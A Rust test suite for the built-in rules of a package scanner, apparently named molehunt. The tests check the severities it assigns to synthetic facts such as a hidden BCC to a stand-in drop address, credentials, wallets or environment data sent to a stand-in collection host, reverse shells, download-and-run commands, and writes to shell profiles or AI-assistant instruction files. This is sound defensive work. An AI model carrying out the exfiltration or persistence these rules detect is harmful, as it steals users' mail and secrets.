//! What the built-in rules say of facts: data in, one line a finding out.

use std::collections::BTreeMap;

use molehunt_model::{
    Act, ActKind, Anchor, Behaviour, Carried, Chooser, Company, Coverage, Destination, DestinationKind, Evidence, Fact,
    Occasion, Origin, PackageFacts, Recipient, Recognition, Role, SendData, SendEmail, Sensitivity, Severity,
    UnanalysedFile, UnanalysedReason,
};
use molehunt_rules::{Context, Identity, RuleSet};
use molehunt_source::{ByteSpan, Manifest, PackageId, PackagePath, Party, SourceText};

fn evidence() -> Evidence {
    let text = SourceText::decode(b"send({ bcc: 'drop@mailroom.example' })".to_vec());
    Evidence {
        file: PackagePath::new("index.js").expect("valid"),
        span: text.span(ByteSpan { start: 12, end: 35 }),
        trace: Vec::new(),
        reachable: true,
        occasion: Occasion::Call,
    }
}

/// A mail from tool `sendEmail` to a fixed address at mailroom.example, in plain sight.
fn mail(role: Role, change: impl FnOnce(&mut SendEmail)) -> Fact {
    let mut send = SendEmail {
        client: "postmark".to_owned(),
        method: "sendEmail".to_owned(),
        recognition: Recognition::Table,
        role,
        field: format!("{role}"),
        recipient: Recipient::Known("drop@mailroom.example".to_owned()),
        chooser: Chooser::Author,
        disguise: None,
        company: Company::Alone,
        condition: None,
        content: vec![Origin::McpArgument("textBody".to_owned())],
        carries: Vec::new(),
        copies_other_send: false,
        declared_by_tool: true,
        check: None,
        may_be_checked: false,
    };
    change(&mut send);
    fact(Behaviour::SendEmail(send))
}

fn fact(behaviour: Behaviour) -> Fact {
    Fact { behaviour, anchor: Anchor::Tool("sendEmail".to_owned()), evidence: evidence() }
}

fn at(mut fact: Fact, occasion: Occasion) -> Fact {
    fact.evidence.occasion = occasion;
    fact
}

fn outside_tools(mut fact: Fact) -> Fact {
    fact.anchor = Anchor::Function("send".to_owned());
    fact
}

fn unreachable(mut fact: Fact) -> Fact {
    fact.evidence.reachable = false;
    fact
}

fn facts(fact: Fact) -> PackageFacts {
    let package = PackageId { name: "acme-mailer".to_owned(), version: "1.0.0".to_owned(), path: String::new() };
    PackageFacts { package, facts: vec![fact], coverage: Coverage::default(), code: Vec::new() }
}

struct Judge {
    rules: RuleSet,
    party: Party,
    homepage: &'static str,
    severity_overrides: BTreeMap<String, Severity>,
}

impl Judge {
    fn third_party() -> Self {
        Self {
            rules: RuleSet::embedded().expect("the built-in rules are valid"),
            party: Party::Third,
            homepage: "",
            severity_overrides: BTreeMap::new(),
        }
    }

    fn findings(&self, fact: Fact) -> Vec<molehunt_model::Finding> {
        let manifest = format!(r#"{{"homepage":"{}"}}"#, self.homepage);
        let context = Context {
            party: self.party,
            identity: Identity::of(&Manifest::parse(manifest.as_bytes()).expect("valid")),
            severity_overrides: &self.severity_overrides,
            upgrade: None,
        };
        self.rules.evaluate(&facts(fact), &context)
    }

    #[track_caller]
    fn check(&self, fact: Fact, expected: &str) {
        let lines: Vec<String> = self
            .findings(fact)
            .iter()
            .map(|finding| match finding.confidence {
                molehunt_model::Confidence::High => format!("{} {}", finding.rule, finding.severity),
                confidence => format!("{} {} ({confidence} confidence)", finding.rule, finding.severity),
            })
            .collect();
        assert_eq!(lines.join(", "), expected);
    }
}

fn hide(send: &mut SendEmail) {
    send.disguise = Some("base64".to_owned());
}

fn undeclared(send: &mut SendEmail) {
    send.declared_by_tool = false;
}

fn chosen_by_user(send: &mut SendEmail) {
    send.chooser = Chooser::User;
    send.recipient = Recipient::From(Origin::McpArgument("bcc".to_owned()));
}

fn placeholder(send: &mut SendEmail) {
    send.recipient = Recipient::Known("you@example.com".to_owned());
}

#[test]
fn a_blind_copy() {
    let judge = Judge::third_party();
    for role in [Role::Bcc, Role::CopyAll, Role::EnvelopeTo] {
        judge.check(mail(role, |_| {}), "hardcoded-bcc high");
        judge.check(mail(role, undeclared), "hardcoded-bcc critical");
        judge.check(outside_tools(mail(role, undeclared)), "hardcoded-bcc high");
        judge.check(outside_tools(mail(role, hide)), "hardcoded-bcc critical");
        judge.check(mail(role, chosen_by_user), "");
        judge.check(mail(role, placeholder), "");
        judge.check(unreachable(mail(role, hide)), "hardcoded-bcc low");
    }
}

#[test]
fn a_visible_copy() {
    let judge = Judge::third_party();
    judge.check(mail(Role::Cc, undeclared), "hardcoded-cc high");
    judge.check(mail(Role::Cc, hide), "hardcoded-cc critical");
    judge.check(mail(Role::Cc, chosen_by_user), "");
    judge.check(mail(Role::Cc, placeholder), "");
}

#[test]
fn a_recipient_among_the_users() {
    let judge = Judge::third_party();
    let among_users = |send: &mut SendEmail| send.company = Company::User;
    judge.check(mail(Role::To, among_users), "added-recipient high");
    judge.check(mail(Role::To, |send| (among_users(send), hide(send)).0), "added-recipient critical");
    judge.check(mail(Role::To, |send| (among_users(send), placeholder(send)).0), "");
}

#[test]
fn a_second_send() {
    let judge = Judge::third_party();
    let copy = |send: &mut SendEmail| send.copies_other_send = true;
    judge.check(mail(Role::To, copy), "duplicate-send high");
    judge.check(mail(Role::To, |send| (copy(send), hide(send)).0), "duplicate-send critical");
    judge.check(mail(Role::To, |send| (copy(send), send.company = Company::User).0), "added-recipient high");
    judge.check(mail(Role::To, |send| (copy(send), placeholder(send)).0), "");
}

#[test]
fn a_fixed_recipient() {
    let judge = Judge::third_party();
    let own = Judge { homepage: "https://www.mailroom.example/", ..Judge::third_party() };
    let argument = |send: &mut SendEmail| send.content = vec![Origin::Argument("text".to_owned())];
    judge.check(mail(Role::To, |_| {}), "fixed-recipient high");
    own.check(mail(Role::To, |_| {}), "fixed-recipient medium");
    own.check(mail(Role::To, hide), "fixed-recipient critical");
    own.check(mail(Role::Bcc, |_| {}), "hardcoded-bcc high");
    judge.check(outside_tools(mail(Role::To, |_| {})), "fixed-recipient medium");
    judge.check(mail(Role::To, argument), "fixed-recipient medium");
    judge.check(outside_tools(mail(Role::To, argument)), "fixed-recipient low");
    judge.check(outside_tools(mail(Role::To, |send| (argument(send), hide(send)).0)), "fixed-recipient critical");
    judge.check(mail(Role::To, |send| send.content = Vec::new()), "");
    judge.check(mail(Role::To, placeholder), "");
}

#[test]
fn a_fixed_reply_to() {
    let judge = Judge::third_party();
    let own = Judge { homepage: "https://www.mailroom.example/", ..Judge::third_party() };
    judge.check(mail(Role::ReplyTo, |_| {}), "hardcoded-reply-to medium");
    judge.check(mail(Role::ReplyTo, hide), "hardcoded-reply-to high");
    own.check(mail(Role::ReplyTo, |_| {}), "hardcoded-reply-to low");
    judge.check(mail(Role::ReplyTo, |send| send.content = Vec::new()), "");
    judge.check(mail(Role::ReplyTo, placeholder), "");
}

#[test]
fn a_mailbox_rule() {
    let judge = Judge::third_party();
    for role in [Role::Forward, Role::Delegate] {
        judge.check(mail(role, |_| {}), "hardcoded-forward high");
        judge.check(mail(role, hide), "hardcoded-forward critical");
    }
    let url = |send: &mut SendEmail| send.recipient = Recipient::Known("https://hook.mailroom.test/x".to_owned());
    for role in [Role::Subscribe, Role::Notify, Role::NotifyUrl] {
        judge.check(mail(role, url), "hardcoded-forward medium");
        judge.check(mail(role, hide), "hardcoded-forward high");
        judge.check(mail(role, placeholder), "");
    }
}

#[test]
fn a_share() {
    let judge = Judge::third_party();
    judge.check(mail(Role::Share, |_| {}), "hardcoded-share high");
    judge.check(mail(Role::Share, hide), "hardcoded-share critical");
    judge.check(mail(Role::Share, placeholder), "");
}

#[test]
fn a_sender_is_no_recipient() {
    let judge = Judge::third_party();
    for role in [Role::From, Role::Sender, Role::EnvelopeFrom, Role::RelayHost] {
        judge.check(mail(role, hide), "");
    }
}

#[test]
fn ones_own_code() {
    let judge = Judge { party: Party::First, ..Judge::third_party() };
    judge.check(mail(Role::Bcc, undeclared), "hardcoded-bcc low");
    judge.check(mail(Role::Bcc, hide), "hardcoded-bcc critical");
    let unparsable = UnanalysedFile { file: evidence().file, reason: UnanalysedReason::ParseError };
    judge.check(fact(Behaviour::Unanalysed(unparsable)), "unanalysed-code medium");
}

#[test]
fn a_call_known_by_its_shape() {
    let judge = Judge::third_party();
    let shape = |send: &mut SendEmail| send.recognition = Recognition::Shape;
    judge.check(mail(Role::Bcc, |send| (shape(send), hide(send)).0), "hardcoded-bcc high (medium confidence)");
    judge.check(mail(Role::ReplyTo, shape), "hardcoded-reply-to medium (medium confidence)");
}

#[test]
fn a_network_destination() {
    let judge = Judge::third_party();
    let call = |kind, value: &str, disguise: Option<&str>| {
        fact(Behaviour::SendData(SendData {
            channel: "fetch".to_owned(),
            method: "fetch".to_owned(),
            destination: Destination { kind, value: value.to_owned() },
            url: String::new(),
            chooser: Chooser::Author,
            disguise: disguise.map(str::to_owned),
            carries: Vec::new(),
            account: None,
            answer_is_used: true,
            also_to: Vec::new(),
            moved: None,
            grants: None,
            payload: Vec::new(),
        }))
    };
    judge.check(call(DestinationKind::Host, "api.mailroom.example", None), "outbound-address info");
    judge
        .check(call(DestinationKind::Url, "https://api.mailroom.test/v1", Some("reversed")), "outbound-address medium");
    judge.check(call(DestinationKind::Ip, "192.0.2.7", None), "outbound-address info");
    judge.check(call(DestinationKind::Ip, "169.254.169.254", None), "outbound-address info");
    judge.check(call(DestinationKind::Ip, "127.0.0.1", Some("reversed")), "");
    judge.check(call(DestinationKind::Unknown, "<unknown:fuel>", None), "");
}

#[test]
fn acts_are_judged_by_when_they_happen() {
    let act = |kind: ActKind, class: &str, disguise: Option<&str>| {
        fact(Behaviour::Act(Act {
            kind,
            subject: "it".to_owned(),
            classes: vec![class.to_owned()],
            content: Vec::new(),
            carries: Vec::new(),
            disguise: disguise.map(str::to_owned),
        }))
    };
    let judge = Judge::third_party();
    for (kind, class, rule, called, loaded) in [
        (ActKind::RunCommand, "reverse-shell", "reverse-shell", "high", "high"),
        (ActKind::RunCommand, "remote", "remote-command-run", "high", "high"),
        (ActKind::RunCommand, "download-and-run", "remote-command-run", "medium", "high"),
        (ActKind::RunCommand, "publish", "package-spread", "low", "high"),
        (ActKind::RunCommand, "assistant", "assistant-driven", "medium", "high"),
        (ActKind::RunCommand, "startup", "startup-command-run", "low", "high"),
        (ActKind::RunCode, "remote", "remote-code-run", "high", "high"),
        (ActKind::RunCode, "decoded", "decoded-code-run", "high", "high"),
        (ActKind::WriteFile, "shell-profile", "startup-file-written", "low", "high"),
        (ActKind::WriteFile, "workflow", "workflow-written", "low", "high"),
        (ActKind::WriteFile, "git-hook", "assistant-instructions-written", "low", "medium"),
        (ActKind::WriteFile, "other-package", "other-package-written", "low", "medium"),
        (ActKind::PatchApi, "leaks", "patched-api-leaks", "high", "high"),
        (ActKind::HideText, "far-right", "hidden-code-text", "high", "high"),
    ] {
        judge.check(act(kind, class, None), &format!("{rule} {called}"));
        judge.check(at(act(kind, class, None), Occasion::Load), &format!("{rule} {loaded}"));
        judge.check(at(act(kind, class, None), Occasion::Install), &format!("{rule} {loaded}"));
        judge.check(unreachable(act(kind, class, None)), &format!("{rule} low"));
    }
    // A setup program that its user starts is loaded as well.
    let assistant = || act(ActKind::WriteFile, "assistant", None);
    judge.check(assistant(), "assistant-instructions-written low");
    judge.check(at(assistant(), Occasion::Load), "assistant-instructions-written medium");
    judge.check(at(assistant(), Occasion::Install), "assistant-instructions-written high");
    judge.check(unreachable(assistant()), "assistant-instructions-written low");
    judge.check(act(ActKind::WriteFile, "startup", Some("base64")), "startup-file-written critical");
    judge.check(act(ActKind::PatchApi, "network", None), "");
}

#[test]
fn what_was_never_meant_to_leave() {
    let call = |carries: &[(Sensitivity, bool)], disguise: Option<&str>| {
        fact(Behaviour::SendData(SendData {
            channel: "fetch".to_owned(),
            method: "fetch".to_owned(),
            destination: Destination { kind: DestinationKind::Host, value: "collect.mailroom.example".to_owned() },
            url: String::new(),
            chooser: Chooser::Author,
            disguise: disguise.map(str::to_owned),
            payload: Vec::new(),
            carries: carries
                .iter()
                .map(|(class, is_at_home)| Carried { class: *class, name: class.to_string(), is_at_home: *is_at_home })
                .collect(),
            account: None,
            answer_is_used: true,
            also_to: Vec::new(),
            moved: None,
            grants: None,
        }))
    };
    use Sensitivity::{
        CredentialFile, Environment, Host, HostIdentity, PageData, PersonalFile, ProjectSecret, Secret,
        UnclaimedSecret, Wallet,
    };
    let judge = Judge::third_party();
    judge.check(call(&[(Environment, false)], None), "environment-to-network high");
    judge.check(call(&[(Environment, false)], Some("base64")), "environment-to-network critical");
    judge.check(call(&[(CredentialFile, false), (ProjectSecret, false)], None), "credential-file-to-network high");
    judge.check(call(&[(Wallet, false)], Some("reversed")), "credential-file-to-network critical");
    judge.check(call(&[(ProjectSecret, false)], None), "credential-file-to-network medium");
    // With its own service, and what is no key.
    judge.check(call(&[(CredentialFile, true)], None), "outbound-address info");
    judge.check(call(&[(UnclaimedSecret, false), (Host, false), (PersonalFile, false)], None), "outbound-address info");
    judge.check(call(&[(Secret, true)], None), "outbound-address info");
    judge.check(call(&[(Secret, false), (Host, false)], None), "secret-to-network high");
    judge.check(call(&[(Secret, false)], Some("base64")), "secret-to-network critical");
    judge.check(call(&[(PageData, false)], None), "page-data-to-network high (medium confidence)");
    // Whose machine it is, only where nobody asked.
    judge.check(call(&[(HostIdentity, false)], None), "outbound-address info");
    judge.check(at(call(&[(HostIdentity, false)], None), Occasion::Load), "host-identity-to-network medium");
    judge.check(at(call(&[(HostIdentity, false)], None), Occasion::Install), "host-identity-to-network high");
    judge.check(at(call(&[(Host, false)], None), Occasion::Install), "outbound-address info");
}

#[test]
fn code_that_was_not_analysed() {
    let judge = Judge::third_party();
    let file = |reason| fact(Behaviour::Unanalysed(UnanalysedFile { file: evidence().file, reason }));
    for reason in UnanalysedReason::ALL {
        use UnanalysedReason::{ArchiveLimit, Budget, InvalidUtf8, Panic, ParseError, TooDeep, TooLarge};
        let severity = match reason {
            ArchiveLimit | Budget | Panic | ParseError | TooDeep | TooLarge => "medium",
            InvalidUtf8 => "info",
            _ => "low",
        };
        judge.check(file(reason), &format!("unanalysed-code {severity}"));
        judge.check(unreachable(file(reason)), "");
    }
}

#[test]
fn the_users_override_comes_last() {
    let severity_overrides = BTreeMap::from([("hardcoded-bcc".to_owned(), Severity::Medium)]);
    let judge = Judge { severity_overrides, ..Judge::third_party() };
    judge.check(mail(Role::Bcc, hide), "hardcoded-bcc medium");
    judge.check(unreachable(mail(Role::Bcc, hide)), "hardcoded-bcc medium");
    judge.check(mail(Role::Cc, |_| {}), "hardcoded-cc high");
}

#[test]
fn a_finding_carries_the_evidence() {
    let fact = unreachable(mail(Role::Bcc, |send| {
        hide(send);
        send.condition = Some("subject.includes('invoice')\n  && !seen".to_owned());
    }));
    let identity = fact.identity();
    let findings = Judge::third_party().findings(fact);
    let [finding] = &findings[..] else { panic!("one finding, not {}", findings.len()) };
    assert_eq!(
        finding.message,
        "the tool `sendEmail` sends its mail to `drop@mailroom.example` as well, by `bcc` and unseen by the other \
         recipients, an address that the code hides, when `subject.includes('invoice') && !seen` holds"
    );
    assert!(finding.why.ends_with(
        "The severity was lowered from critical to low because no entry point and no script of the package reaches this code."
    ));
    let destination = finding.destination.as_ref().expect("a destination");
    assert_eq!((destination.kind, destination.value.as_str()), (DestinationKind::Email, "drop@mailroom.example"));
    assert_eq!(finding.data, ["mcp-argument:textBody"]);
    assert_eq!(finding.mcp_tool.as_deref(), Some("sendEmail"));
    assert_eq!((finding.span, finding.reachable), (evidence().span, false));
    assert!(finding.remediation.iter().any(|step| step.contains("suppression list")));
    assert!(identity.contains("drop@mailroom.example") && finding.fingerprint.len() == 16);
}

/// Every sentence a built-in rule can say, read once by a person.
#[test]
fn messages() {
    let judge = Judge::third_party();
    let message = |fact: Fact| {
        let findings = judge.findings(fact);
        findings.iter().map(|finding| finding.message.clone()).collect::<Vec<_>>().join("; ")
    };
    let hidden_if = |send: &mut SendEmail| {
        hide(send);
        send.condition = Some("ready".to_owned());
    };
    for (fact, expected) in [
        (mail(Role::Cc, |_| {}), "the tool `sendEmail` sends a copy of its mail to `drop@mailroom.example` by `cc`"),
        (
            outside_tools(mail(Role::Cc, hidden_if)),
            "this call sends a copy of its mail to `drop@mailroom.example` by `cc`, an address that the code hides, when `ready` holds",
        ),
        (
            mail(Role::To, |send| send.company = Company::User),
            "the tool `sendEmail` adds `drop@mailroom.example` to the recipients that its caller chose, in `to`",
        ),
        (
            mail(Role::To, |send| send.copies_other_send = true),
            "the tool `sendEmail` sends a mail to the recipient its caller chose, and the same content again to `drop@mailroom.example`",
        ),
        (
            mail(Role::To, hidden_if),
            "the tool `sendEmail` mails what its caller hands over to `drop@mailroom.example`, and no caller chose that address; the code hides it; it does so when `ready` holds",
        ),
        (
            mail(Role::ReplyTo, |_| {}),
            "answers to mail from the tool `sendEmail` go to `drop@mailroom.example` by `reply_to`, and not to its sender",
        ),
        (
            mail(Role::Delegate, |_| {}),
            "the tool `sendEmail` gives `drop@mailroom.example` access to the mailbox by `sendEmail`",
        ),
        (
            outside_tools(mail(Role::Forward, hidden_if)),
            "this call makes mail be forwarded to `drop@mailroom.example` by `sendEmail`; the code hides where; it does so when `ready` holds",
        ),
        (
            mail(Role::Notify, |_| {}),
            "the tool `sendEmail` makes notices about mail go to `drop@mailroom.example` by `sendEmail`",
        ),
        (
            fact(Behaviour::Unanalysed(UnanalysedFile { file: evidence().file, reason: UnanalysedReason::TooDeep })),
            "`index.js` was not analysed in full (too-deep), so what it does is not known",
        ),
        (
            fact(Behaviour::Unanalysed(UnanalysedFile {
                file: evidence().file,
                reason: UnanalysedReason::InvalidUtf8,
            })),
            "`index.js` contains bytes that are not UTF-8; it was analysed with each of them replaced",
        ),
    ] {
        assert_eq!(message(fact), expected);
    }
}
